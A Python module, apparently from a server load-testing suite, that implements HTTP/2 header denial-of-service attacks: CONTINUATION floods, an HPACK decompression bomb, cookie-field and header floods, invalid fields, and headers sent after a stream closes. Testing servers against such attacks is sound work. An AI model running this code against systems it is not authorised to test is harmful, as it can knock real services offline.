"""Header blocks without end, or small ones that decode to much: CVE-2024-27316 and kin, CVE-2026-47774."""

from __future__ import annotations

from collections.abc import Iterator

from loadtests.attack.attack import Outcome, attack, several
from loadtests.attack.raw import Raw, Target
from loadtests.attack.requests import block, opening, streams
from loadtests.fuzz.frames import CONTINUATION, END_HEADERS, HEADERS, frame, literals

FRAMES = 100_000
CRUMBS = 10_000
ENTRY = 4096 - 32 - 1  # fills HPACK's table of 4096 bytes: a name of one byte, and 32 that each entry counts


def _endless(raw: Raw, piece: bytes, count: int) -> int:
    raw.greet()
    raw.send(frame(HEADERS, 1, block()))  # without END_HEADERS
    return raw.send_all(frame(CONTINUATION, 1, piece) for _ in range(count))


@attack("continuation-empty", f"{FRAMES:,} empty CONTINUATION frames")
def continuation_empty(target: Target, scale: float) -> Outcome:
    return several(target, 1, lambda raw: _endless(raw, b"", round(FRAMES * scale)))


@attack("continuation-full", "CONTINUATION frames of 16 KiB without end")
def continuation_full(target: Target, scale: float) -> Outcome:
    piece = literals([(b"x-%d" % i, b"y" * 1000) for i in range(15)])
    return several(target, 1, lambda raw: _endless(raw, piece, round(FRAMES * scale / 100)))


def _string(size: int, byte: bytes) -> bytes:
    # RFC 7541, section 5.2, without Huffman
    head, size_left = bytearray([127]), size - 127
    while size_left >= 128:
        head.append(size_left & 127 | 128)
        size_left >>= 7
    head.append(size_left)
    return bytes(head) + byte * size


def _bombs(count: int) -> Iterator[bytes]:
    entry = b"\x40\x01x" + _string(ENTRY, b"y")  # literal with incremental indexing: index 62 from now on
    yield frame(HEADERS, 1, block() + entry, END_HEADERS)
    for stream in streams(count, 3):
        yield frame(HEADERS, stream, block() + b"\xbe" * 15_000, END_HEADERS)


@attack("hpack-bomb", "15,000 one-byte references to an entry of 4 KiB in each block")
def hpack_bomb(target: Target, scale: float) -> Outcome:
    def each(raw: Raw) -> int:
        raw.greet()
        return raw.send_all(_bombs(round(1000 * scale)))

    return several(target, 1, each)


def _crumbs(count: int) -> Iterator[bytes]:
    crumb = literals([(b"cookie", b"a=b")])
    fields = block() + crumb * count
    for stream in streams(100):
        pieces = [fields[i : i + 16_384] for i in range(0, len(fields), 16_384)]
        for i, piece in enumerate(pieces):
            yield frame(CONTINUATION if i else HEADERS, stream, piece, END_HEADERS if i == len(pieces) - 1 else 0)


@attack("cookie-crumbs", f"{CRUMBS:,} cookie fields in each request")
def cookie_crumbs(target: Target, scale: float) -> Outcome:
    def each(raw: Raw) -> int:
        raw.greet()
        return raw.send_all(_crumbs(CRUMBS))

    return several(target, 1, each)


@attack("header-flood", "requests of 200 fields, one after the other")
def header_flood(target: Target, scale: float) -> Outcome:
    more = [(b"x-%d" % i, b"y") for i in range(200)]

    def each(raw: Raw) -> int:
        raw.greet()
        return raw.send_all(opening(s, more=more) for s in streams(round(10_000 * scale)))

    return several(target, 1, each)


@attack("invalid-fields", "fields that no header list may hold, which a decoder would only skip")
def invalid_fields(target: Target, scale: float) -> Outcome:
    bad = literals([(b"x-\x01", b"\x00\r\n")]) * 1500

    def each(raw: Raw) -> int:
        raw.greet()
        return raw.send_all(frame(HEADERS, s, block() + bad, END_HEADERS) for s in streams(round(2000 * scale)))

    return several(target, 1, each)


@attack("headers-after-close", "100,000 header blocks for a stream that is over")
def headers_after_close(target: Target, scale: float) -> Outcome:
    def each(raw: Raw) -> int:
        raw.greet()
        raw.send(opening(1, b"/no/such", end=True))
        raw.read_until_ended(1)
        return raw.send_all(
            frame(HEADERS, 1, b"\xbe" * 0 + literals([(b"x", b"y")]), 5) for _ in range(round(FRAMES * scale))
        )

    return several(target, 1, each)
